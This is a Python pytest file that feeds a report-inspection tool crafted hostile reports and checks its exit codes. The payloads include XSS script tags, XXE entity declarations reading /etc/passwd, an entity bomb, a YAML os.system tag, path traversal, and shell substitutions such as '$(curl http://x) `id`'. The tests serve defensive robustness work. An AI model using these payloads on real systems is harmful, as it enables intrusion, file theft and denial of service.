"""Reports whose content is markup, script, a second report, or numbers that make no sense."""

# ruff: noqa: E501 (a line a case reads better than one wrapped)

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path

import pytest

import samples
from hostile_entry import inspected

FINE = samples.report()
HOOK = samples.SCENARIO["hooks"][0]
SCRIPT_TAGS = '</script><script>alert(1)</script><img src=x onerror="alert(1)">'
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\r\n\x9b31m"
TURNED = "abc\u202egnp.exe\u2066\u200f\u061c"


def said(stdout: str) -> str:
    """A report whose hook printed ``stdout``."""
    chart = {**samples.FIRED["charts"][0], "data": ["RetCode: 0", f"StdOut: {stdout}", "StdErr: (empty)"]}
    return hooked(complete=[{**samples.FIRED, "charts": [chart]}])


def hooked(**changes: object) -> str:
    return samples.report([samples.scenario(hooks=[{**HOOK, **changes}])])


def configured(action: object, **trigger: object) -> str:
    config = copy.deepcopy(samples.CONFIG)
    config["subtasks"][0]["hooks"] = [{"description": "x", "action": action, "trigger": trigger or {
        "event": {"unit": "iteration", "at": [2]}}}]  # fmt: skip
    return samples.report([samples.scenario(config=json.dumps(config))])


def periodic(**values: object) -> str:
    return configured({"sys_call": "sh ./restart.sh"}, periodic={"unit": "iteration", **values})


Made = Callable[[], str | bytes]

REPORTS: dict[str, tuple[Made, int]] = {
    "script in stdout": (lambda: said(SCRIPT_TAGS), 0),
    "an assignment in stdout": (lambda: said('\n        $scope.scenarios = [{"cls": "Evil"}];\n'), 0),
    "the end of the page in stdout": (lambda: said("</script></html>"), 0),
    "terminal escapes in stdout": (lambda: said(ESCAPES), 0),
    "script in a scenario's name": (lambda: samples.report([samples.scenario(cls="<script>", met="alert(1)</script>")]), 0),
    "terminal escapes in a scenario's name": (lambda: samples.report([samples.scenario(cls=ESCAPES, met="x")]), 0),
    "turned letters in a scenario's name": (lambda: samples.report([samples.scenario(cls=TURNED, met="x")]), 0),
    "a path as a scenario's name": (lambda: samples.report([samples.scenario(cls="../../../etc", met="passwd")]), 0),
    "lone surrogates": (lambda: FINE.replace("Run script", "\\ud800\\udfff\\udc00"), 0),
    "NUL in a name": (lambda: FINE.replace('"Dummy"', '"Du\\u0000mmy"'), 0),
    "rich's markup in a name": (lambda: samples.report([samples.scenario(cls="[bold red]x[/]", met="[link=http://x]y")]), 0),
    "a template in a description": (lambda: hooked(desc="{{ 7*7 }} ${7*7} #{7*7} %(x)s {0.__class__}"), 0),
    "a second page behind the first": (lambda: FINE + FINE, 0),
    "a comment that opens before the data": (lambda: FINE.replace("<script", "<!-- <script", 1), 0),
    "an entity declaration": (lambda: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + FINE, 0),
    "an entity bomb": (lambda: "<!DOCTYPE x [" + "".join(
        f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12)) + "]>" + FINE.replace("<title>", "<title>&e11;"), 0),
    "a refresh and a base": (lambda: FINE.replace("<head>", '<head><base href="http://x/"><meta http-equiv=refresh content=0>'), 0),
    "many generators": (lambda: FINE.replace("<head>", "<head>" + '<meta name="generator" content="x">' * 1000), 0),
    "duplicate keys": (lambda: FINE.replace('"iterations_count": 4', '"iterations_count": 999, "iterations_count": 4'), 0),
    "iterations counted in thousand millions": (lambda: samples.report([samples.scenario(iterations_count=10**9)]), 0),
    "an integer of 5,000 digits": (lambda: FINE.replace('"iterations_count": 4', '"iterations_count": ' + "9" * 5000), 2),
    "an integer of 400 digits": (lambda: FINE.replace('"iterations_count": 4', '"iterations_count": ' + "9" * 400), 2),
    "an exponent without end": (lambda: FINE.replace('"load_duration": 8.0', '"load_duration": 1e999999'), 2),
    "a negative duration": (lambda: samples.report([samples.scenario(load_duration=-1.0)]), 0),
    "a prototype": (lambda: FINE.replace('"cls": "Dummy"', '"__proto__": {"x": 1}, "constructor": [], "cls": "Dummy"'), 0),
    "an action that is a class": (lambda: configured({"__class__": "os.system"}), 0),
    "an action nested 500 deep": (lambda: configured({"sys_call": json.loads("[" * 500 + "]" * 500)}), 0),
    "an action that names a file": (lambda: configured({"sys_call": "cat /etc/passwd | sh ../../../../etc/passwd"}), 0),
    "an action of substitutions": (lambda: configured({"sys_call": "$(curl http://x) `id` ${IFS} <(x)"}), 0),
    "a step of almost nothing": (lambda: periodic(start=1, step=1e-300, end=10), 2),
    "a step that is no number": (lambda: periodic(start=1, step=float("nan"), end=10), 2),
    "an end without end": (lambda: periodic(start=1, step=1, end=10**15), 0),
    "a trigger of a foreign plugin": (lambda: configured({"sys_call": "x"}, evil={"unit": "iteration", "at": [2]}), 0),
    "config in YAML with a tag": (lambda: samples.report([samples.scenario(config="!!python/object/apply:os.system ['id']")]), 2),
    "config in YAML of aliases": (lambda: samples.report([samples.scenario(config="a: &a [x]\nb: [" + "*a, " * 60000 + "]")]), 2),
    "source in another encoding": (lambda: samples.report().encode("utf-16-le"), 2),
    "no script element at all": (lambda: "\n        $scope.scenarios = " + json.dumps([samples.SCENARIO]) + ";\n", 0),
    "only carriage returns": (lambda: FINE.replace("\n", "\r").encode(), 0),
    "times of the year 9999": (lambda: FINE.replace("2019-11-19 17:53:46", "9999-12-31 23:59:59"), 2),
    "a leap second": (lambda: FINE.replace("2019-11-19 17:53:46", "2016-12-31 23:59:60"), 2),
    "an error's message of 3 MB": (lambda: FINE.replace("Connection refused", "password " * 330_000), 0),
}  # fmt: skip


@pytest.mark.parametrize(("made", "code"), REPORTS.values(), ids=REPORTS)
def test_a_report_with(made: Made, code: int, tmp_path: Path):
    data = made()
    done = inspected(tmp_path, report=data.encode() if isinstance(data, str) else data)
    assert done.exit_code == code, done.stderr


def test_the_last_of_two_keys_counts_as_in_a_browser(tmp_path: Path):
    for more in ("", ', "x": NaN'):  # what orjson reads, and what it leaves to Python
        text = FINE.replace('"iterations_count": 4', f'"iterations_count": 999, "iterations_count": 4{more}')
        document = json.loads(inspected(tmp_path, report=text.encode()).stdout)
        assert document["workloads"][0]["iterations"] == 4
